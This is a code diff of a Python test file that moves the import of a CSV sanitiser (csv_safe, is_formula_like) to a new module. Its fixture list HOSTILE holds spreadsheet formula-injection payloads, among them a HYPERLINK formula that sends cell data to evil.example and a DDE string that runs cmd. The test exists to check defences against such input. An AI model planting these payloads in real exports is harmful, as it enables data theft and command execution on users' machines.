@@ -9,7 +9,7 @@ import json
 import openpyxl
 import pytest
 
-from iscg_graph.curation.cells import csv_safe, is_formula_like
+from iscg_graph.render.cells import csv_safe, is_formula_like
 from iscg_graph.render.tabular import ResultTable, to_csv, to_xlsx
 
 HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
